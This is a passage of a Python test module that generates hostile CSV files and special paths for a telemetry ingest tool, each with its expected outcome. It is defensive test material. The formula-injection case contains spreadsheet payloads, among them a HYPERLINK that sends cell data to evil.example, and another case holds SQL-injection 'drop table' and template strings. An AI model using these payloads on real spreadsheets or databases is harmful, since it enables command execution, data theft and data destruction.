"""Hostile input for `telemetry ingest csv`: bad files, each with the outcome the README promises.

A plain module, used by tests/test_hostile_input.py and runnable on its own to look at the files:

    python tests/hostile_files.py OUTDIR

`build(directory)` writes every file under `directory` and returns one HostileCase per file (or path) with
what `telemetry ingest csv PATH --json` must do with it:

- ``file_error``: exit 2, exactly one stderr line, starting with ``error:`` and naming the file; nothing written.
- ``loads``: exit 0 with these exact counts; every rejected record is kept in telemetry.rejected_rows with
  its line number and a reason matching ``rejects[line]`` (a regular expression, searched case-insensitively).
  A last record whose line ending is not written yet is not read (``pending_line``): the next run reads nothing,
  and says which line waits.

Expected outcomes follow the README's documented rules, not what the loader happens to do. Valid rows are
dated within the last few days so that no retention setting expires them; only the year-1 and year-9999
cases use other dates (the tests run with TELEMETRY_RETENTION_MONTHS=0, under which year 1 loads).
"""

from __future__ import annotations

import bz2
import gzip
import hashlib
import io
import lzma
import os
import random
import socket
import sys
import zipfile
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path

CANONICAL_HEADER = "timestamp,model,prompt_tokens,completion_tokens,task_success,task_type,duration_ms,notes"

COUNT_KEYS = ("rows_read", "inserted", "duplicates", "rejected", "expired")

#: Reasons, as patterns: the README names what is rejected, not the exact wording.
NOT_A_TIMESTAMP = r"timestamp is not"
FUTURE = r"future"
NOT_A_COUNT = r"not a non-negative integer"
NOT_A_BOOLEAN = r"not a boolean"
NOT_UTF8 = r"UTF-8"
NUL = r"NUL"
FIELD_COUNT = r"fields"
MALFORMED = r"quot|malformed|CSV"
TOO_LONG = r"record is longer than 1 MiB"
MAX_RECORD = 1 << 20  # MAX_RECORD_BYTES of loader/csv_scanner.py, as the README documents it

TEN_MB = 10_000_000


@dataclass(frozen=True)
class HostileCase:
    """One hostile file (or path) and what `telemetry ingest csv PATH --json` must do with it."""

    name: str
    #: What is passed to `telemetry ingest csv`.
    path: Path
    #: The bytes written at `path`; None when the path is a directory, a pattern or does not exist.
    data: bytes | None
    #: "file_error" or "loads".
    expect: str
    about: str
    #: For "loads": the exact rows_read, inserted, duplicates, rejected, expired.
    counts: dict[str, int] | None = None
    #: For "loads": line number of each rejected record -> pattern its rejection_reason must match.
    rejects: dict[int, str] = field(default_factory=dict)
    #: For "file_error": the path the one error line must name (default: `path`).
    error_names: str | None = None
    #: For "file_error": further patterns the error line must match (case-insensitive).
    error_mentions: tuple[str, ...] = ()
    #: For "loads": (SQL, expected rows) pairs checked after the load.
    checks: tuple[tuple[str, list[tuple]], ...] = ()
    #: For "loads": the line where an unfinished last record starts (not read, announced), None when there is none.
    pending_line: int | None = None

    def __post_init__(self) -> None:
        assert self.expect in ("file_error", "loads"), self.expect
        if self.expect == "loads":
            assert self.counts is not None and set(self.counts) == set(COUNT_KEYS), self.name
            assert self.counts["rows_read"] == sum(self.counts[k] for k in COUNT_KEYS[1:]), self.name
            assert self.counts["rejected"] == len(self.rejects), self.name


def loaded(rows_read: int, inserted: int, duplicates: int = 0, rejected: int = 0, expired: int = 0) -> dict:
    return {"rows_read": rows_read, "inserted": inserted, "duplicates": duplicates, "rejected": rejected,
            "expired": expired}


# --- building rows -------------------------------------------------------------------------------------------

_NOW = datetime.now(UTC).replace(microsecond=0)
_BASE = _NOW - timedelta(days=3)


def ts(i: int = 0) -> str:
    """A recent timestamp (three days ago plus i minutes), ISO 8601 with Z."""
    return (_BASE + timedelta(minutes=i)).strftime("%Y-%m-%dT%H:%M:%SZ")


def q(value: str) -> str:
    """A CSV-quoted field."""
    return '"' + value.replace('"', '""') + '"'


def row(i: int, *, model: str = "gpt-4o", prompt: str = "100", completion: str = "200", success: str = "true",
        task: str = "execute", duration: str = "1500", notes: str | None = None, timestamp: str | None = None) -> str:
    """A canonical record as raw CSV text; fields are written as given (quote them with q() when needed)."""
    return ",".join([timestamp if timestamp is not None else ts(i), model, prompt, completion, success, task,
                     duration, notes if notes is not None else f"Phase 1 row {i}"])


def text_file(*lines: str, header: str = CANONICAL_HEADER, newline: str = "\n") -> bytes:
    return (newline.join([header, *lines]) + newline).encode("utf-8")


def _random_text(seed: int, length: int) -> str:
    """Incompressible printable text (no comma, quote or newline)."""
    rng = random.Random(seed)
    alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_.:;/"
    return "".join(rng.choice(alphabet) for _ in range(length))


# --- the cases -----------------------------------------------------------------------------------------------


def _file_errors(d: Path) -> list[HostileCase]:
    cases = []

    def error(name: str, filename: str, data: bytes, about: str, *mentions: str) -> None:
        cases.append(HostileCase(name, d / filename, data, "file_error", about, error_mentions=mentions))

    error("empty_file", "empty.csv", b"", "zero bytes", "empty")
    error("only_blank_lines", "blank.csv", b"\n\r\n\n\n", "nothing but line endings", "empty")
    error("bom_only", "bom-only.csv", b"\xef\xbb\xbf", "a UTF-8 BOM and nothing else", "empty")
    error("binary_garbage", "garbage.csv", random.Random(1).randbytes(4096), "4 KiB of random bytes")
    error("png_image", "image.csv",
          b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00\x1f\xf3\xffa"
          + random.Random(2).randbytes(512), "a PNG image renamed to .csv", "PNG image")
    error("gzip_compressed_csv", "usage.csv.gz.csv",
          gzip.compress(text_file(row(1), row(2)), mtime=0), "a gzip-compressed CSV, not decompressed",
          "gzip-compressed; decompress it first")
    error("utf16_csv", "utf16.csv", "\ufeff".encode("utf-16-le") + text_file(row(1)).decode().encode("utf-16-le"),
          "a UTF-16 file as Excel and PowerShell write them", "UTF-16 encoded", "save it as UTF-8")
    error("latin1_header", "latin1-header.csv",
          b"timestamp,model,duraci\xf3n\n" + f"{ts(1)},gpt-4o,5\n".encode(), "the header itself is latin-1")
    error("nul_in_header", "nul-header.csv",
          b"timestamp,mo\x00del,notes\n" + f"{ts(1)},gpt-4o,x\n".encode(), "a NUL byte inside the header")
    error("headerless", "headerless.csv", text_file(row(2), row(3), header=row(1)),
          "data from line 1, no header", "header")
    error("duplicate_header_names", "dup-header.csv",
          text_file(row(1) + ",gpt-4o", header=CANONICAL_HEADER + ",model"), "model twice", "model")
    error("duplicate_header_alias", "dup-alias.csv",
          text_file(f"{ts(1)},{ts(1)},gpt-4o", header="ts,timestamp,model"),
          "ts and timestamp both name the timestamp", "timestamp")
    error("duplicate_header_case_and_spaces", "dup-case.csv",
          text_file(f"{ts(1)},gpt-4o,gpt-4o", header="timestamp,Model, MODEL "), "Model and ' MODEL '", "model")
    error("missing_model_column", "no-model.csv",
          text_file(f"{ts(1)},10,20", header="timestamp,prompt_tokens,completion_tokens"),
          "a required column is absent", "model")
    error("semicolon_delimited", "semicolons.csv",
          text_file(row(1).replace(",", ";"), header=CANONICAL_HEADER.replace(",", ";")),
          "a European Excel export: one column named 'timestamp;model;...'",
          "semicolon-delimited; llm-telemetry reads comma-separated files: re-export with commas")
    error("unterminated_quote_in_header", "quote-header.csv",
          text_file(row(1), row(2), header='"timestamp,model,prompt_tokens,notes'),
          "the header opens a quote that never closes", "line 1: the header opens a quote that never closes")

    missing_dir = d / "no-csv-here"
    missing_dir.mkdir(parents=True, exist_ok=True)
    (missing_dir / "readme.txt").write_text("not a csv\n")
    cases.append(HostileCase("directory_without_csv", missing_dir, None, "file_error",
                             "a directory with no .csv file in it"))
    cases.append(HostileCase("nonexistent_path", d / "does-not-exist.csv", None, "file_error",
                             "a path that does not exist", error_mentions=("no such file",)))
    cases.append(HostileCase("glob_matching_nothing", d / "nothing-*.csv", None, "file_error",
                             "a glob pattern that matches no file"))
    mixed = d / "one-good-one-empty"
    mixed.mkdir(parents=True, exist_ok=True)
    (mixed / "a-good.csv").write_bytes(text_file(row(1), row(2)))
    (mixed / "b-empty.csv").write_bytes(b"")
    cases.append(HostileCase("directory_with_one_bad_file", mixed, None, "file_error",
                             "a directory holding a good file and an empty one: the whole run is refused",
                             error_names=str(mixed / "b-empty.csv"), error_mentions=("empty",)))
    error("weird_file_name_empty", "usage %s {0} 🚀 ünï.csv", b"",
          "an empty file whose name holds spaces, % and braces, an emoji and accents", "empty")
    return cases


def _loads(d: Path) -> list[HostileCase]:
    cases = []

    def load(name: str, filename: str, data: bytes | None, about: str, counts: dict,
             rejects: dict[int, str] | None = None, checks: tuple = (), pending: int | None = None) -> None:
        cases.append(HostileCase(name, d / filename, data, "loads", about, counts=counts, rejects=rejects or {},
                                 checks=checks, pending_line=pending))

    load("header_only", "header-only.csv", text_file(), "the header and no record", loaded(0, 0))

    # --- encodings and bytes
    load("latin1_and_binary_bytes_in_rows", "latin1-rows.csv",
         text_file(row(1), "@@", row(2), "@@", "##", row(5)).replace(
             b"@@", f"{ts(3)},gpt-4o,1,2,true,plan,3,caf\xe9 cr\xe8me".encode("latin-1"), 1).replace(
             b"@@", f"{ts(4)},mod\xe8le,1,2,true,plan,3,x".encode("latin-1"), 1).replace(
             b"##", b"\xff\xfe\x00\x01\x89PNG\x1a\x00garbage"),
         "two records in latin-1 (notes, model) and a line of binary bytes among UTF-8 records",
         loaded(6, 3, rejected=3), {3: NOT_UTF8, 5: NOT_UTF8, 6: f"{NOT_UTF8}|{NUL}|{FIELD_COUNT}"})
    load("nul_bytes_in_rows", "nul-rows.csv",
         text_file(row(1) + ",host-a", row(2, notes="Phase 1 a\x00b") + ",host-b",
                   row(3, model="gpt\x00-4o") + ",host-c", row(4) + ",ho\x00st",
                   header=CANONICAL_HEADER + ",host"),
         "NUL bytes in notes and in model are rejected; in an unknown extra column they are ignored with the "
         "column (README: unknown extra columns never fail a load)", loaded(4, 2, rejected=2), {3: NUL, 4: NUL})

    # --- CSV structure
    load("unterminated_quote", "unterminated.csv",
         text_file(row(1), row(2), row(3, notes='"Phase 2 the quote never closes, so this swallows'), row(4)),
         "a quoted notes field never closed: the record has not ended, so it is not read (a writer may still be "
         "writing it) and the run says so", loaded(2, 2), pending=4)
    load("ragged_and_malformed_rows", "ragged.csv",
         text_file(row(1), ",".join(row(2).split(",")[:6]), row(3) + ",extra,fields", "# a comment line",
                   row(4), "," * 1_000_000, row(5, notes='"quoted"trailing'), row(6)),
         "6 fields, 10 fields, a comment line of 1 field, a line of a million commas, text after a closing quote",
         loaded(8, 3, rejected=5),
         {3: FIELD_COUNT, 4: FIELD_COUNT, 5: FIELD_COUNT, 7: FIELD_COUNT, 8: MALFORMED})
    load("quoted_newline_comma_and_stray_quotes", "quoting.csv",
         text_file(row(1, notes=q('Phase 3: a, b\nsecond "line", end')), row(2, notes='Phase 2 said "hi" ok'),
                   row(3, notes=q("")), row(4)),
         "a quoted field with a newline, commas and doubled quotes; quotes inside an unquoted field",
         loaded(4, 4),
         checks=(('select source_line_number, notes from telemetry.llm_calls order by source_line_number',
                  [(2, 'Phase 3: a, b\nsecond "line", end'), (4, 'Phase 2 said "hi" ok'), (5, None),
                   (6, "Phase 1 row 4")]),))
    load("header_trailing_empty_column", "trailing-comma.csv",
         text_file(row(1) + ",", row(2) + ",", header=CANONICAL_HEADER + ","),
         "header and records end with a comma: an unnamed, empty extra column", loaded(2, 2))
    load("header_trailing_empty_column_rows_without", "trailing-comma-header.csv",
         text_file(row(1), row(2), header=CANONICAL_HEADER + ","),
         "the header ends with a comma, the records do not: the wrong number of fields (README)",
         loaded(2, 0, rejected=2), {2: FIELD_COUNT, 3: FIELD_COUNT})
    load("many_duplicate_extra_columns", "wide.csv",
         text_file(row(1) + ",v" * 5000, row(2) + ",v" * 5000, header=CANONICAL_HEADER + ",x" * 4999 + ","),
         "5000 unknown columns, all named x or unnamed: ignored, duplicates or not", loaded(2, 2))
    load("duplicate_rows", "dupes.csv", text_file(row(1), row(1), row(2), row(1)),
         "the same record three times", loaded(4, 2, duplicates=2))

    # --- line endings and blank lines
    load("bom_and_crlf", "bom-crlf.csv",
         b"\xef\xbb\xbf" + text_file(row(1), row(2, notes=q("two\r\nlines")), newline="\r\n"),
         "a UTF-8 BOM, CRLF line endings, a CRLF inside quoted notes", loaded(2, 2),
         checks=(("select notes from telemetry.llm_calls order by source_line_number",
                  [("Phase 1 row 1",), ("two\nlines",)]),))
    load("cr_only_line_endings", "cr-only.csv", text_file(row(1), row(2), newline="\r"),
         "classic Mac OS line endings (CR only)", loaded(2, 2))
    load("blank_lines_and_mixed_line_endings", "blank-mixed.csv",
         (CANONICAL_HEADER + "\n" + row(1) + "\r\n\n" + row(2) + "\n\r\n\n" + row(3)).encode(),
         "blank lines in the middle, LF and CRLF mixed, no newline after the last record: that record waits for "
         "its line ending", loaded(2, 2), pending=7,
         checks=(("select source_line_number from telemetry.llm_calls order by 1", [(2,), (4,)]),))
    load("blank_line_before_header", "blank-first.csv", b"\n" + text_file(row(1)),
         "a blank line before the header (blank lines are skipped)", loaded(1, 1))

    # --- values
    load("whitespace_around_values", "spaces.csv",
         text_file(" " + " , ".join(row(1, notes="Phase 4 spaced").split(",")) + " ",
                   header=" " + " , ".join(CANONICAL_HEADER.split(",")) + " "),
         "spaces around every header name and value", loaded(1, 1),
         checks=(("select model, prompt_name, input_tokens, output_tokens, success, duration_ms, phase "
                  "from telemetry.llm_calls", [("gpt-4o", "execute", 100, 200, True, 1500, "4")]),))
    load("formula_like_values", "formulas.csv",
         text_file(row(1, notes="=cmd|' /C calc'!A0"), row(2, model="=HYPERLINK(\"http://x\")"),
                   row(3, notes=q('=HYPERLINK("http://evil.example/?"&A1,"click")')),
                   row(4, notes="@SUM(1+1)*cmd|' /C calc'!A0"), row(5, notes="+1-2"), row(6, notes="-2+3"),
                   row(7, task="=1+1"), row(8, prompt="=1+1")),
         "spreadsheet formulas: stored verbatim as text; a formula as a count is rejected",
         loaded(8, 7, rejected=1), {9: NOT_A_COUNT},
         checks=(("select model, prompt_name, notes from telemetry.llm_calls order by source_line_number", [
             ("gpt-4o", "execute", "=cmd|' /C calc'!A0"), ('=HYPERLINK("http://x")', "execute", "Phase 1 row 2"),
             ("gpt-4o", "execute", '=HYPERLINK("http://evil.example/?"&A1,"click")'),
             ("gpt-4o", "execute", "@SUM(1+1)*cmd|' /C calc'!A0"), ("gpt-4o", "execute", "+1-2"),
             ("gpt-4o", "execute", "-2+3"), ("gpt-4o", "=1+1", "Phase 1 row 7")]),))
    sql_notes = [
        "'); drop table telemetry.llm_calls; --",
        "x' or '1'='1",
        "$$; drop schema telemetry cascade; $$",
        "%(load_id)s %s {} {0}",
        "{{ run_query('drop table telemetry.llm_calls') }} {% raw %}",
        "\\.",
        "\\N",
        "back\\slash\\ttab\tand\\ncr",
    ]
    load("sql_template_and_copy_escapes", "sql.csv",
         text_file(*(row(i, notes=q(n)) for i, n in enumerate(sql_notes, start=1)),
                   row(20, model="gpt-4o'; drop table telemetry_raw.usage_rows; --", task="plan\"); --"),
                   row(21, prompt="1; drop table x")),
         "SQL, psycopg placeholders, Jinja, COPY's \\. and \\N: stored verbatim, nothing executed",
         loaded(10, 9, rejected=1), {11: NOT_A_COUNT},
         checks=(("select notes from telemetry.llm_calls where model = 'gpt-4o' order by source_line_number",
                  [(n,) for n in sql_notes]),
                 ("select model, prompt_name from telemetry.llm_calls where model <> 'gpt-4o'",
                  [("gpt-4o'; drop table telemetry_raw.usage_rows; --", 'plan"); --')]),
                 ("select to_regclass('telemetry_raw.usage_rows') is not null", [(True,)]),
                 ("select count(*) from telemetry.rejected_rows", [(1,)])))
    big = ["2147483648", "4294967296", "9007199254740993", "999999999999999999"]
    load("counts_beyond_32_bits", "big-counts.csv",
         text_file(*(row(i, prompt=n, completion=n, duration=n, notes=f"n{i}") for i, n in enumerate(big)),
                   *(row(10 + i, prompt=big[-1], completion=big[-1], notes=f"max {i}") for i in range(10)),
                   row(30, prompt="9223372036854775808"), row(31, completion="18446744073709551616"),
                   row(32, duration="99999999999999999999999"), row(33, prompt="1000000000000000001")),
         "counts past 2^31, 2^32 and 2^53 load exactly; past 10^18 and 2^63 they are rejected",
         loaded(18, 14, rejected=4), {16: NOT_A_COUNT, 17: NOT_A_COUNT, 18: NOT_A_COUNT, 19: NOT_A_COUNT},
         checks=(("select input_tokens::text, output_tokens::text, duration_ms::text, total_tokens::text "
                  "from telemetry.llm_calls where notes like 'n%' order by source_line_number",
                  [(n, n, n, str(2 * int(n))) for n in big]),
                 ("select sum(total_tokens)::text from telemetry.tokens_by_model", [(str(
                     sum(2 * int(n) for n in big) + 10 * 2 * int(big[-1])),)])))
    load("count_of_exactly_10_pow_18", "ten-pow-18.csv",
         text_file(row(1, prompt=str(10**18 - 1)), row(2, prompt=str(10**18))),
         "README: token counts are non-negative integers below 10^18", loaded(2, 1, rejected=1), {3: NOT_A_COUNT},
         checks=(("select input_tokens from telemetry.llm_calls", [(10**18 - 1,)]),))
    load("negative_fractional_nan_exponent", "numbers.csv",
         text_file(row(1, prompt="12.0", completion="007", duration=" 42 ", notes="ok"),
                   row(2, prompt="-1"), row(3, prompt="1.5"), row(4, prompt="NaN"), row(5, prompt="1e3"),
                   row(6, completion="Infinity"), row(7, duration="0x10"), row(8, prompt=q("1,000")),
                   row(9, prompt="1_000"), row(10, duration="-0.5"), row(11, completion="nan")),
         "12.0 reads as 12; negative, fractional, NaN, 1e3, Infinity, hex, 1,000 and 1_000 are rejected",
         loaded(11, 1, rejected=10), {n: NOT_A_COUNT for n in range(3, 13)},
         checks=(("select input_tokens, output_tokens, duration_ms from telemetry.llm_calls", [(12, 7, 42)]),))
    load("unicode_digits", "unicode-digits.csv",
         text_file(row(1), row(2, prompt="１２３"), row(3, duration="٣٤"), row(4, completion="²"),
                   row(5, timestamp="２０２６-11-20T10:00:00Z"), row(6, timestamp="١٧٦٣٦٠٠٠٠٠")),
         "full-width, Arabic-Indic and superscript digits are not integers, nor timestamp digits",
         loaded(6, 1, rejected=5),
         {3: NOT_A_COUNT, 4: NOT_A_COUNT, 5: NOT_A_COUNT, 6: NOT_A_TIMESTAMP, 7: NOT_A_TIMESTAMP})
    load("booleans_and_empty_required_values", "bools.csv",
         text_file(*(row(i, success=s) for i, s in enumerate(["TRUE", "False", "YES", "no", "1", "0", ""], 1)),
                   *(row(10 + i, success=s) for i, s in enumerate(["maybe", "t", "on", "Y", "2"])),
                   row(20, timestamp=""), row(21, model="   "), row(22, model=""), ",,,,,,,"),
         "booleans in every documented spelling load; others, an empty timestamp or model are rejected",
         loaded(16, 7, rejected=9),
         {9: NOT_A_BOOLEAN, 10: NOT_A_BOOLEAN, 11: NOT_A_BOOLEAN, 12: NOT_A_BOOLEAN, 13: NOT_A_BOOLEAN,
          14: r"timestamp is empty", 15: r"model is empty", 16: r"model is empty", 17: r"timestamp is empty"},
         checks=(("select success from telemetry.llm_calls order by source_line_number",
                  [(True,), (False,), (True,), (False,), (True,), (False,), (None,)]),))

    # --- timestamps
    load("year_1_and_year_9999", "years.csv",
         text_file(row(1), row(2, timestamp="0001-01-01T00:00:00Z", notes="year 1 Z"),
                   row(3, timestamp="0001-01-01 00:00:00", notes="year 1 naive"),
                   row(4, timestamp="9999-12-31T23:59:59Z"), row(5, timestamp="9999-12-31 23:59:59"),
                   row(6, timestamp="10000-01-01T00:00:00Z")),
         "year 1 is a valid timestamp (loads with retention 0); 9999 is in the future; 10000 is not ISO",
         loaded(6, 3, rejected=3), {5: FUTURE, 6: FUTURE, 7: NOT_A_TIMESTAMP},
         checks=(("select notes, (\"timestamp\" at time zone 'UTC')::text from telemetry.llm_calls "
                  "where notes like 'year%' order by notes",
                  [("year 1 Z", "0001-01-01 00:00:00"), ("year 1 naive", "0001-01-01 00:00:00")]),))
    load("year_1_with_positive_offset", "year-1-offset.csv",
         text_file(row(1), row(2, timestamp="0001-01-01T00:30:00+01:00", notes="year 1 +01:00")),
         "0001-01-01T00:30:00+01:00 is 23:30 UTC on 31 December 1 BC: before the year 1, so rejected, "
         "never a traceback", loaded(2, 1, rejected=1), {3: "timestamp is before the year 1"})
    future_2d = (_NOW + timedelta(days=2)).strftime("%Y-%m-%dT%H:%M:%SZ")
    future_12h = (_NOW + timedelta(hours=12)).strftime("%Y-%m-%dT%H:%M:%SZ")
    epoch = str(int((_BASE - timedelta(hours=1)).timestamp()))
    load("timestamp_spellings_impossible_and_future", "timestamps.csv",
         text_file(row(1), row(0, timestamp=future_12h, notes="12 hours ahead"),
                   row(0, timestamp=epoch, notes="epoch"),
                   row(0, timestamp=ts(5).replace("T", " ").rstrip("Z"), notes="naive"),
                   row(0, timestamp=q(ts(6).replace("Z", ",5+05:30")), notes="comma fraction and offset"),
                   *(row(20 + i, timestamp=t) for i, t in enumerate([
                       "2026-02-30T10:00:00Z", "2025-02-29T10:00:00Z", "2026-13-01T10:00:00Z",
                       ts(7)[:11] + "25" + ts(7)[13:], ts(8)[:14] + "60:00Z", ts(9)[:17] + "61Z",
                       ts(10).replace("Z", "+25:00"), ts(11)[:10], epoch + "000", "yesterday", "NaT", "null"])),
                   row(40, timestamp=future_2d)),
         "good spellings load (12 h ahead is fine); 30 February, 25:00, minute 60, +25:00, a bare date, "
         "epoch milliseconds, words are not timestamps; two days ahead is in the future",
         loaded(18, 5, rejected=13), {**{n: NOT_A_TIMESTAMP for n in range(7, 19)}, 19: FUTURE})

    # --- size and text
    unit = 'Phase 9: pasted tool output, with "quotes", commas, and newlines\n'
    huge = ("Phase 9 " + unit * (TEN_MB // len(unit) + 1))[:TEN_MB]
    load("ten_mb_notes_field", "ten-mb-notes.csv",
         text_file(row(1), row(2, success="false", notes=q(huge)), row(3)),
         "a failed call whose notes are 10 MB of pasted output with quotes, commas and newlines: longer than the "
         "1 MiB limit for one record, so it is rejected (and never held in memory); the lines after it keep their "
         "numbers", loaded(3, 2, rejected=1), {3: TOO_LONG},
         checks=(("select source_line_number from telemetry.llm_calls where notes = 'Phase 1 row 3'",
                  [(4 + huge.count("\n"),)]),))
    near = ("Phase 9 " + unit * (MAX_RECORD // len(unit)))[: MAX_RECORD * 96 // 100]
    near_row = row(1, success="false", notes=q(near))
    assert MAX_RECORD - 50_000 < len(near_row.encode()) <= MAX_RECORD  # quoting doubles the quotes
    load("notes_field_just_under_the_limit", "near-limit-notes.csv", text_file(near_row),
         "a failed call whose notes are just under 1 MiB, with quotes, commas and newlines: loads exactly",
         loaded(1, 1),
         checks=(("select length(notes), md5(notes), phase from telemetry.llm_calls",
                  [(len(near), hashlib.md5(near.encode()).hexdigest(), "9")]),))
    long_model = "claude-3-5-sonnet-" + _random_text(3, 10_000)
    load("very_long_model_name", "long-model.csv", text_file(row(1, model=long_model)),
         "a 10,000-character model name", loaded(1, 1),
         checks=(("select length(model) from telemetry.llm_calls", [(len(long_model),)]),))
    long_task = _random_text(4, 10_000)
    long_session = _random_text(5, 10_000)
    load("very_long_key_values", "long-keys.csv",
         text_file(row(1, task=long_task) + ",s1", row(2) + "," + long_session,
                   header=CANONICAL_HEADER + ",session_id"),
         "10,000-character task_type and session_id: both are part of the key of llm_calls", loaded(2, 2),
         checks=(("select length(prompt_name), length(session_id) from telemetry.llm_calls order by 1, 2",
                  [(7, 10_000), (10_000, 2)]),))
    emoji_notes = ("Phase 4 🚀 naïve café 日本語 \u202eRTL\u202c zero\u200bwidth line\u2028sep nel\x85 ff\x0c "
                   "esc\x1b[31m")
    load("unicode_and_emoji", "unicode.csv",
         text_file(row(1, notes=q(emoji_notes)), row(2, model="🤖-model", task="計画")),
         "emoji, accents, CJK, bidi overrides, U+2028, NEL, form feed and escape sequences", loaded(2, 2),
         checks=(("select model, prompt_name, notes, phase from telemetry.llm_calls order by source_line_number",
                  [("gpt-4o", "execute", emoji_notes, "4"), ("🤖-model", "計画", "Phase 1 row 2", "1")]),))

    # --- file names
    load("file_name_with_brackets", "usage[1].csv", text_file(row(1)),
         "an existing file whose name holds [ ]: it is a file, not a glob pattern", loaded(1, 1))
    load("weird_file_name", "usage %s {0} 🚀 ünï.txt", text_file(row(1), row(2)),
         "a name with spaces, %, braces, an emoji, accents and no .csv suffix", loaded(2, 2),
         checks=(("select count(*) from telemetry_raw.load_audit where source_file like '%🚀 ünï.txt'", [(1,)]),))
    return cases


def _fresh(path: Path) -> Path:
    """Make room for a special file (FIFO, link, socket) at path, also when building into the same folder twice."""
    path.parent.mkdir(parents=True, exist_ok=True)
    if path.is_symlink() or path.exists():
        if path.is_dir() and not path.is_symlink():
            for child in path.iterdir():
                child.unlink()
            path.rmdir()
        else:
            path.unlink()
    return path


def _socket_at(path: Path) -> None:
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        server.bind(str(_fresh(path)))
    finally:
        server.close()


def _xlsx() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", "<worksheet/>")
    return buffer.getvalue()


def _encodings_and_formats(d: Path) -> list[HostileCase]:
    """Files that are not UTF-8 text CSVs: each is named for what it is, with what to do about it."""
    cases = []

    def error(name: str, filename: str, data: bytes, about: str, *mentions: str) -> None:
        cases.append(HostileCase(name, d / filename, data, "file_error", about, error_mentions=mentions))

    text = text_file(row(1), row(2)).decode()
    error("utf16_big_endian_with_bom", "utf16-be.csv", ("\ufeff" + text).encode("utf-16-be"),
          "UTF-16 big-endian with its byte order mark", "UTF-16 encoded", "save it as UTF-8")
    error("utf16_without_bom", "utf16-no-bom.csv", text.encode("utf-16-le"),
          "UTF-16 little-endian without a byte order mark (every other byte is NUL)", "UTF-16 encoded")
    error("utf32_with_bom", "utf32.csv", text.encode("utf-32"), "UTF-32 with its byte order mark",
          "UTF-32 encoded", "save it as UTF-8")
    error("xlsx_workbook", "report.csv", _xlsx(), "an Excel .xlsx workbook (a ZIP archive) renamed to .csv",
          "ZIP archive", "save it as CSV")
    error("xls_workbook", "legacy.csv", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(3).randbytes(1024),
          "an Excel 97-2003 .xls workbook renamed to .csv", "Excel 97-2003 workbook")
    error("bzip2_compressed_csv", "usage.csv.bz2.csv", bz2.compress(text.encode()),
          "a bzip2-compressed CSV", "bzip2-compressed; decompress it first")
    error("xz_compressed_csv", "usage.csv.xz.csv", lzma.compress(text.encode()),
          "an xz-compressed CSV", "xz-compressed; decompress it first")
    error("pdf_document", "invoice.csv", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n", "a PDF renamed",
          "PDF document")
    error("tab_delimited", "tabs.csv", text_file(row(1).replace(",", "\t"), header=CANONICAL_HEADER.replace(",", "\t")),
          "a TSV export", "tab-delimited; llm-telemetry reads comma-separated files")
    error("pipe_delimited", "pipes.csv", text_file(row(1).replace(",", "|"), header=CANONICAL_HEADER.replace(",", "|")),
          "a pipe-delimited export", "pipe-delimited")
    error("excel_sep_semicolon", "sep-semicolon.csv",
          b"sep=;\r\n" + text_file(row(1).replace(",", ";"), header=CANONICAL_HEADER.replace(",", ";"),
                                   newline="\r\n"),
          "Excel's 'sep=;' line before a semicolon-delimited header",
          r"line 1: the file is semicolon-delimited \(its first line says sep=;\)")
    error("header_quote_never_closes_20_mb", "quote-header-huge.csv",
          b'"timestamp,model,' + b"x" * 20_000_000 + b"\n" + row(1).encode() + b"\n",
          "a header that opens a quote and 20 MB follow: refused after 64 KiB, not after minutes",
          "line 1: the header opens a quote that never closes within 64 KiB")
    error("header_longer_than_64_kib", "wide-header.csv",
          text_file(row(1) + ",v" * 20_000,
                    header=CANONICAL_HEADER + "".join(f",extra_{i:05d}" for i in range(20_000))),
          "20,000 extra column names: a header longer than the 64 KiB limit", "header is longer than 64 KiB")
    error("header_of_whitespace_names", "blank-names.csv", b"  ,\t,   \n" + f"{ts(1)},gpt-4o,x\n".encode(),
          "a header whose names are only spaces and tabs", "missing required columns timestamp, model")
    error("only_a_sep_line", "only-sep.csv", b"sep=,\r\n", "Excel's sep=, line and nothing else", "empty")
    error("a_million_blank_lines", "million-blank.csv", b"\n" * 500_000 + b" \t\r\n" * 500_000,
          "a million lines of nothing but line endings, spaces and tabs", "empty")
    return cases


def _special_paths(d: Path) -> list[HostileCase]:
    """Paths that are not regular files, or cannot be reached: refused in one line, before anything is written."""
    cases = []

    def error(name: str, path: Path, about: str, *mentions: str, names: Path | None = None) -> None:
        cases.append(HostileCase(name, path, None, "file_error", about, error_mentions=mentions,
                                 error_names=str(names) if names else None))

    fifo = _fresh(d / "special" / "fifo.csv")
    os.mkfifo(fifo)
    error("fifo_named_csv", fifo, "a named pipe called .csv: reading it would block forever",
          r"is a FIFO \(named pipe\), not a regular file")
    zero = _fresh(d / "special" / "zero.csv")
    zero.symlink_to("/dev/zero")
    error("symlink_to_dev_zero", zero, "a link to /dev/zero: reading it would never end",
          "is a symbolic link to /dev/zero, which is a character device, not a regular file")
    error("dev_null", Path("/dev/null"), "the null device itself", "is a character device")
    sock = d / "special" / "socket.csv"
    _socket_at(sock)
    error("socket_named_csv", sock, "a unix socket called .csv", "is a socket")
    loop = _fresh(d / "special" / "loop-a.csv")
    _fresh(d / "special" / "loop-b.csv").symlink_to(loop)
    loop.symlink_to(d / "special" / "loop-b.csv")
    error("symlink_loop", loop, "two links pointing at each other", "symbolic link loop")
    dangling = _fresh(d / "special" / "dangling.csv")
    dangling.symlink_to(d / "special" / "gone.csv")
    error("dangling_symlink", dangling, "a link to a file that was deleted",
          "no such file: it is a symbolic link to .*gone.csv, which does not exist")
    inside_a_file = d / "special" / "plain.csv"
    inside_a_file.write_bytes(text_file(row(1)))
    error("path_through_a_file", inside_a_file / "usage.csv", "a path that goes through a file as if a directory",
          "no such file")

    folder_named_csv = d / "folder.csv"
    folder_named_csv.mkdir(parents=True, exist_ok=True)
    (folder_named_csv / "notes.txt").write_text("not a csv\n")
